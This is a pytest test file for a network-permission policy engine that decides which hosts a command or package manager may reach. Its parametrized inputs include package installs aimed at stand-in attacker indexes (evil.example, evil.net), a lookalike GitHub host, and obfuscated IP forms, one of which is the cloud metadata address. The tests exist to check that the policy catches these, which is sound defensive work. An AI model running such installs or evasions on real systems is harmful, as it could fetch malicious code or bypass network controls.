"""Sets of hosts, networks, and what a package manager reaches: read from a file, then decided."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from policy.decide import decide, matching_rules
from policy.document import PolicyError
from policy.examples import SAMPLE
from policy.footprint import footprint
from policy.host_globs import HostGlobs, meets, spelled, within
from policy.hosts import canonical
from policy.lint import lint
from policy.load import load, pack
from policy.model import Access, Effect, Exec
from policy.rules import Source

ALLOW, ASK, DENY = Effect.ALLOW, Effect.ASK, Effect.DENY
SETS = 'host_sets: {python: [index.example, "*.files.example"], inside: [10.1.0.0/16]}\n'


def policy_of(rule: str, sets: str = SETS):
    text = f"version: 1\n{sets}rules:\n  - {{id: r, {rule}}}\n"
    return load([Source("p.yaml", text)], check_examples=False)


def effect(rule: str, command: str, sets: str = SETS) -> Effect:
    """Return what the policy says of a command's connections."""
    action = Exec(command, None, SAMPLE.workspace)
    found = footprint(action, SAMPLE).accesses
    connections = [access for access in found if access.operation == "net.connect"]
    assert connections, command
    return decide(connections, policy_of(rule, sets), SAMPLE).effect


# --- sets in a file -----------------------------------------------------------------------------


def test_a_set_stands_for_its_hosts():
    (rule,) = policy_of("allow: [net.connect], hosts: ['@python', a.example, '{@inside,b}']").rules
    assert rule.hosts == ("*.files.example", "index.example", "a.example", "10.1.0.0/16", "b")


def test_sets_of_one_name_are_united_whatever_the_order_of_files():
    one = Source("a.yaml", "version: 1\nhost_sets: {x: [b, a]}\nrules: []\n")
    two = Source("b.yaml", "version: 1\nhost_sets: {x: [c, a], git-forges: [git.a]}\nrules: []\n")
    first, second = load([one, two]), load([two, one])
    assert first.host_sets["x"] == ("a", "b", "c")
    assert first.host_sets == second.host_sets
    assert {"git.a", "github.com"} <= set(first.host_sets["git-forges"])


def test_one_file_may_use_the_set_of_another_a_projects_too():
    sets = Source("a.yaml", "version: 1\nhost_sets: {x: [a.example]}\nrules: []\n")
    text = "version: 1\nrules:\n  - {id: r, ask: [net.connect], hosts: ['@x']}\n"
    policy = load([Source("b.yaml", text, tightens_only=True), sets])
    assert policy.rules[0].hosts == ("a.example",)


def test_the_packaged_set_is_there_for_packs_and_files():
    rule = "allow: [net.connect], hosts: ['@git-forges']"
    assert effect(rule, "git clone https://github.com/a/b", "") is ALLOW
    assert effect(rule, "git clone https://github.com.evil.example/a/b", "") is ASK
    assert load([pack("dev-safe")]).host_sets.keys() == {"git-forges"}


@pytest.mark.threat("T04")
@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("rules: [{id: r, ask: [net.connect], hosts: ['@rust']}]\n", "p.yaml:2:45: no file "),
        ("host_sets: []\nrules: []\n", "p.yaml:2:12: host_sets is a mapping"),
        ("host_sets: {}\nrules: []\n", "host_sets is a mapping"),
        ("host_sets: {No: [a]}\nrules: []\n", "p.yaml:2:13: host set 'No': use lower-case"),
        ("host_sets: {x: []}\nrules: []\n", "x is a list with at least one entry"),
        ("host_sets: {x: ['@git-forges']}\nrules: []\n", "p.yaml:2:17: '@git-forges' of host set"),
        ("host_sets: {x: ['${host}']}\nrules: []\n", "'${host}' of host set 'x' is no host"),
        ("host_sets: {x: ['https://a/']}\nrules: []\n", "'https://a/' of host set 'x' is no host"),
        ("host_sets: {x: [a:443]}\nrules: []\n", "'a:443' of host set 'x' is no host"),
        ("host_sets: {x: [10.0.0.0/40]}\nrules: []\n", "'10.0.0.0/40' of host set 'x' is no host"),
        ("host_sets: {x: ['[a']}\nrules: []\n", "p.yaml:2:17: '[a' has a [ without its ]"),
    ],
)
def test_a_mistake_in_a_set_is_refused_with_its_place(text, message):
    with pytest.raises(PolicyError) as refused:
        load([Source("p.yaml", "version: 1\n" + text)])
    assert message in str(refused.value)


def test_who_names_a_set_that_is_not_there_is_told_how_to_get_it():
    with pytest.raises(PolicyError, match=r"there are git-forges; .* `permitgate policy hosts`"):
        policy_of("ask: [net.connect], hosts: ['@python']", "")


@pytest.mark.threat("T04")
def test_a_projects_file_defines_no_set():
    with pytest.raises(PolicyError, match=r"p.yaml:2:12: a project's policy may only tighten"):
        load([Source("p.yaml", f"version: 1\n{SETS}rules: []\n", tightens_only=True)])


# --- addresses ----------------------------------------------------------------------------------


@pytest.mark.threat("T02")
@pytest.mark.parametrize(
    ("item", "host", "is_inside"),
    [
        ("10.1.0.0/16", "10.1.2.3", True),
        ("10.1.0.0/16", "http://167838211/", True),
        ("10.1.0.0/16", "http://[::ffff:10.1.2.3]/", True),
        ("10.1.0.0/16", "10.2.2.3", False),
        ("10.1.0.0/16", "fd00::1", False),
        ("10.1.0.0/16", "10.1.example", False),
        ("10.1.7.7/16", "10.1.2.3", True),
        ("fd00::/8", "https://[FD12::1]/", True),
        ("fd00::/8", "fe80::1", False),
        ("::ffff:10.1.0.0/112", "10.1.2.3", True),
        ("FD00:0::1", "fd00::1", True),
        ("2852039166", "169.254.169.254", True),
        ("bücher.example", "https://xn--bcher-kva.example/", True),
        ("*.bücher.example", "https://a.xn--bcher-kva.example/", True),
        ("Example.COM.", "https://example.com/", True),
    ],
)
def test_an_address_or_a_network_names_what_lies_in_it(item, host, is_inside):
    access = Access("net.connect", host, "exact", "curl")
    rule = f"[net.connect], hosts: ['{item}']"
    allowed = decide([access], policy_of(f"allow: {rule}"), SAMPLE).effect
    denied = decide([access], policy_of(f"deny: {rule}"), SAMPLE).effect
    assert (allowed, denied) == ((ALLOW, DENY) if is_inside else (ASK, ASK))
    matched = matching_rules([access], policy_of(f"deny: {rule}"), SAMPLE)
    assert bool(matched) is is_inside


@pytest.mark.parametrize("item", ["10.1.0.0/16", "fd00::/8", "10.1.2.3", "*.a.example", "b*"])
def test_a_host_a_glob_or_a_network_is_spelled_well(item):
    assert complaints(item) == []


@pytest.mark.parametrize(
    "item",
    ["10.1.0.0/99", "a/16", "https://a.example", "b*ü.example", "ex ample", "08", "a\u200db"],
)
def test_what_no_host_is_spelled_like_is_complained_about(item):
    assert complaints(item)


def complaints(item: str) -> list[str]:
    text = f'version: 1\nrules:\n  - {{id: r, deny: [net.connect], hosts: ["{item}"]}}\n'
    source = Source("p.yaml", text)
    found = lint(load([source]), [source], {})
    return [one.what for one in found if one.kind == "unreachable"]


@pytest.mark.parametrize("hosts", ["*", "0.0.0.0/0", "::/0"])
def test_every_address_is_any_host(hosts):
    source = Source(
        "p.yaml", f'version: 1\nrules:\n  - {{id: r, allow: [net.connect], hosts: ["{hosts}"]}}\n'
    )
    assert "over-broad" in {one.kind for one in lint(load([source]), [source], {})}


ITEMS = st.sampled_from(
    ["*", "a.example", "*.example", "b*", "10.*", "10.1.0.*", "10.1.0.0/16", "10.0.0.0/8", "[ab].c",
     "10.1.2.3", "fd00::/8", "fd12::1", "fd12::/16", "f*", "*:*", "1?.1.2.3"]
)  # fmt: skip
HOSTS = st.sampled_from(
    ["a.example", "x.example", "b.c", "a.c", "10.1.2.3", "10.1.0.9", "10.9.9.9", "fd12::1",
     "fd00::7", "fe80::1", "foo", "11.1.2.3"]
)  # fmt: skip


@pytest.mark.parametrize(
    ("one", "other", "is_within", "is_met"),
    [
        ("10.1.0.0/16", "10.0.0.0/8", True, True),
        ("10.0.0.0/8", "10.1.0.0/16", False, True),
        ("10.0.0.0/8", "fd00::/8", False, False),
        ("fd12::/16", "fd00::/8", True, True),
        ("fd00::/8", "10.0.0.0/8", False, False),
        ("10.0.0.0/8", "10.*", False, True),
        ("10.1.2.3", "10.0.0.0/8", True, True),
        ("10.0.0.0/8", "11.1.2.3", False, False),
        ("[ab].c", "10.0.0.0/8", False, True),  # not worked out
        ("*.example", "10.0.0.0/8", False, False),
        ("a.example", "*.example", True, True),
    ],
)
def test_items_lie_in_one_another_or_meet(one, other, is_within, is_met):
    assert (within(one, other), meets(one, other)) == (is_within, is_met)
    globs = HostGlobs((other,))
    for _ in "ab":
        assert (globs.has_all((one,)), globs.has_any((one,))) == (is_within, is_met)


@given(ITEMS, ITEMS, HOSTS)
def test_what_is_within_an_item_is_named_by_it_and_what_is_in_both_is_where_they_meet(a, b, host):
    in_a, in_b = HostGlobs((a,)).has(host), HostGlobs((b,)).has(host)
    assert not (within(a, b) and in_a and not in_b)
    assert not (in_a and in_b and not meets(a, b))


@given(st.text())
def test_any_text_has_one_spelling_as_an_item_or_none(text):
    found = spelled(text)
    assert found is None or spelled(found) == found
    name = canonical(text)
    assert name is None or (canonical(name) == name and name.isascii())


# --- what a package manager reaches -------------------------------------------------------------


@pytest.mark.threat("T02")
@pytest.mark.parametrize(
    "command",
    ["pip install x", "pip3.12 install x", "uv add x", "poetry add x", "python -m pip install x"],
)
def test_a_package_manager_reaches_the_hosts_of_its_set(command):
    assert effect("allow: [net.connect], hosts: ['@python']", command) is ALLOW
    assert effect("allow: [net.connect], hosts: ['*.example']", command) is ALLOW
    assert effect("allow: [net.connect], hosts: [index.example]", command) is ASK  # not all of them
    assert effect("deny: [net.connect], hosts: [index.example]", command) is DENY  # one of them
    assert effect("deny: [net.connect], hosts: ['a.files.*']", command) is DENY
    policy = policy_of("deny: [net.connect], hosts: [elsewhere.example]")
    (access,) = (Access("net.connect", "<a package index>", "exact", "pip install"),)
    assert matching_rules([access], policy, SAMPLE) == set()


@pytest.mark.threat("T02")
@pytest.mark.parametrize("command", ["npm install", "cargo fetch", "twine upload x", "apt update"])
def test_without_its_set_what_a_package_manager_reaches_is_not_known(command):
    assert effect("allow: [net.connect], hosts: ['@python', '*.example']", command) is ASK
    assert effect("deny: [net.connect], hosts: [elsewhere.example]", command) is ASK


@pytest.mark.threat("T02")
@pytest.mark.parametrize(
    "command",
    [
        "uv add --index-url https://evil.example/simple x",
        "pip install -i https://evil.net/simple x",
        "npm install --registry https://evil.net",
        "curl '<a package index>'",
        "curl '<the hosts of python>'",
        "uv publish",
    ],
)
def test_an_index_that_is_named_or_another_program_is_not_the_set(command):
    sets = "host_sets: {python: [a.example], node: [a.example], ruby: [a.example]}\n"
    assert effect("allow: [net.connect], hosts: [a.example]", command, sets) is ASK


def test_many_hosts_of_many_rules_are_compared_in_bounded_work():
    hosts = ", ".join(f'"*.h{n}.example"' for n in range(250))
    rules = "".join(f"  - {{id: r{n}, ask: [net.connect], hosts: [{hosts}]}}\n" for n in range(20))
    policy = load(
        [Source("p.yaml", f"version: 1\nhost_sets: {{python: [{hosts}]}}\nrules:\n{rules}")]
    )
    access = Access("net.connect", "<a package index>", "exact", "pip install")
    (verdict,) = decide([access], policy, SAMPLE).verdicts
    assert (verdict.rule_id, verdict.effect) == ("limit", ASK)
